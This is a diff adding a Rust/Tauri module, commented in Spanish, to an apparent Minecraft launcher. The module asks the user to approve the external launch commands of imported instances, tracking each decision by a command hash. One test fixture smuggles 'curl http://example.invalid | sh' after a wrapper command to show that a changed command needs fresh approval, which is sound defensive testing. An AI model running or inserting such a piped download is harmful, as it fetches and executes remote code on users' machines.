@@ -0,0 +1,212 @@
+// Consentimiento para los comandos externos de una instancia.
+
+use serde::Serialize;
+use tauri::AppHandle;
+
+use crate::{
+    app::{instance_service::read_instance_metadata, trusted_root::resolve_trusted_instance_root},
+    domain::models::instance::{InstanceMetadata, LaunchHooks},
+    infrastructure::{
+        checksum::sha1::sha256_hex,
+        filesystem::config::{load_launcher_config, save_launcher_config, HookApproval},
+    },
+    shared::clock::app_clock,
+};
+
+/// La instancia declara comandos externos que el usuario no ha aprobado (o rechazó).
+#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
+#[serde(rename_all = "camelCase")]
+pub struct HookNotApprovedError {
+    /// Siempre `HOOK_NOT_APPROVED`.
+    pub code: &'static str,
+    pub instance_uuid: String,
+    /// Línea de comandos exacta que se ejecutaría, una por comando.
+    pub command_line: String,
+    pub command_hash: String,
+    /// `true` si el usuario ya rechazó este mismo comando.
+    pub denied: bool,
+    pub message: String,
+}
+
+/// Línea de comandos que cubre la aprobación; `None` si la instancia no tiene comandos.
+pub(crate) fn hook_command_line(hooks: &LaunchHooks) -> Option<String> {
+    let lines = [
+        ("PreLaunchCommand", hooks.pre_launch_command.as_deref()),
+        ("WrapperCommand", hooks.wrapper_command.as_deref()),
+    ]
+    .into_iter()
+    .filter_map(|(label, command)| {
+        let command = command?.trim();
+        (!command.is_empty()).then(|| format!("{label}: {command}"))
+    })
+    .collect::<Vec<_>>();
+    (!lines.is_empty()).then(|| lines.join("\n"))
+}
+
+fn command_hash(command_line: &str) -> String {
+    sha256_hex(command_line.as_bytes())
+}
+
+/// Falla si la instancia tiene comandos externos sin una aprobación vigente.
+pub(crate) fn check_hook_approval(
+    approvals: &[HookApproval],
+    metadata: &InstanceMetadata,
+) -> Result<(), HookNotApprovedError> {
+    let Some(command_line) = hook_command_line(&metadata.launch_hooks) else {
+        return Ok(());
+    };
+    let hash = command_hash(&command_line);
+    let decision = approvals.iter().find(|approval| {
+        approval.instance_uuid == metadata.internal_uuid && approval.command_hash == hash
+    });
+    if decision.is_some_and(|approval| approval.approved) {
+        return Ok(());
+    }
+    let denied = decision.is_some();
+    Err(HookNotApprovedError {
+        code: "HOOK_NOT_APPROVED",
+        instance_uuid: metadata.internal_uuid.clone(),
+        message: if denied {
+            format!(
+                "Rechazaste los comandos externos de '{}'; apruébalos para poder lanzarla.",
+                metadata.name
+            )
+        } else {
+            format!(
+                "'{}' quiere ejecutar comandos externos al lanzar. Revísalos y apruébalos antes de continuar.",
+                metadata.name
+            )
+        },
+        command_line,
+        command_hash: hash,
+        denied,
+    })
+}
+
+/// Guarda la decisión para el comando actual y descarta las anteriores de la instancia.
+pub(crate) fn record_hook_decision(
+    approvals: &mut Vec<HookApproval>,
+    metadata: &InstanceMetadata,
+    approve: bool,
+    decided_at: String,
+) -> Result<HookApproval, String> {
+    let command_line = hook_command_line(&metadata.launch_hooks)
+        .ok_or_else(|| "La instancia no tiene comandos externos que aprobar.".to_string())?;
+    let approval = HookApproval {
+        instance_uuid: metadata.internal_uuid.clone(),
+        command_hash: command_hash(&command_line),
+        command_line,
+        approved: approve,
+        decided_at,
+    };
+    approvals.retain(|existing| existing.instance_uuid != metadata.internal_uuid);
+    approvals.push(approval.clone());
+    Ok(approval)
+}
+
+/// Aprueba o rechaza los comandos externos actuales de la instancia.
+#[tauri::command]
+pub fn approve_instance_hooks(
+    app: AppHandle,
+    instance_root: String,
+    approve: bool,
+) -> Result<HookApproval, String> {
+    let instance_root = resolve_trusted_instance_root(&app, &instance_root)?;
+    let metadata = read_instance_metadata(instance_root.to_string())?;
+    let mut config = load_launcher_config(&app)?;
+    let approval = record_hook_decision(
+        &mut config.hook_approvals,
+        &metadata,
+        approve,
+        app_clock(&app).clock.now_rfc3339(),
+    )?;
+    save_launcher_config(&app, &config)?;
+    log::info!(
+        "🔹 Comandos externos de '{}' {}: {}",
+        metadata.name,
+        if approve { "aprobados" } else { "rechazados" },
+        approval.command_line.replace('\n', " | ")
+    );
+    Ok(approval)
+}
+
+#[tauri::command]
+pub fn list_hook_approvals(app: AppHandle) -> Result<Vec<HookApproval>, String> {
+    Ok(load_launcher_config(&app)?.hook_approvals)
+}
+
+/// Olvida la decisión sobre una instancia; el próximo lanzamiento vuelve a preguntar.
+#[tauri::command]
+pub fn revoke_hook_approval(app: AppHandle, instance_uuid: String) -> Result<bool, String> {
+    let mut config = load_launcher_config(&app)?;
+    let before = config.hook_approvals.len();
+    config
+        .hook_approvals
+        .retain(|approval| approval.instance_uuid != instance_uuid);
+    let revoked = config.hook_approvals.len() != before;
+    if revoked {
+        save_launcher_config(&app, &config)?;
+    }
+    Ok(revoked)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn metadata(wrapper: &str) -> InstanceMetadata {
+        let mut metadata: InstanceMetadata = serde_json::from_value(serde_json::json!({
+            "name": "Importada",
+            "minecraftVersion": "1.20.1",
+            "internalUuid": "0b6f3c1e-8a9d-4f51-9c7e-2d4a6b8e1f00",
+        }))
+        .expect("metadata");
+        metadata.launch_hooks.wrapper_command = Some(wrapper.to_string());
+        metadata
+    }
+
+    #[test]
+    fn instance_without_hooks_needs_no_approval() {
+        let mut metadata = metadata("");
+        metadata.launch_hooks = LaunchHooks::default();
+        assert!(check_hook_approval(&[], &metadata).is_ok());
+    }
+
+    #[test]
+    fn unseen_hooks_are_rejected_with_the_exact_command() {
+        let err = check_hook_approval(&[], &metadata("gamemoderun")).expect_err("not approved");
+        assert_eq!(err.code, "HOOK_NOT_APPROVED");
+        assert_eq!(err.command_line, "WrapperCommand: gamemoderun");
+        assert!(!err.denied);
+    }
+
+    #[test]
+    fn changed_command_invalidates_previous_approval() {
+        let mut approvals = Vec::new();
+        let approved = metadata("gamemoderun");
+        record_hook_decision(
+            &mut approvals,
+            &approved,
+            true,
+            "2024-05-01T10:00:00Z".to_string(),
+        )
+        .expect("approve");
+        assert!(check_hook_approval(&approvals, &approved).is_ok());
+
+        let changed = metadata("gamemoderun; curl http://example.invalid | sh");
+        let err = check_hook_approval(&approvals, &changed).expect_err("changed command");
+        assert!(!err.denied);
+
+        record_hook_decision(
+            &mut approvals,
+            &changed,
+            false,
+            "2024-05-01T10:05:00Z".to_string(),
+        )
+        .expect("deny");
+        assert_eq!(approvals.len(), 1);
+        assert!(check_hook_approval(&approvals, &changed).is_err_and(|err| err.denied));
+        // La decisión nueva sustituye a la anterior: el comando original vuelve a preguntar.
+        assert!(check_hook_approval(&approvals, &approved).is_err());
+    }
+}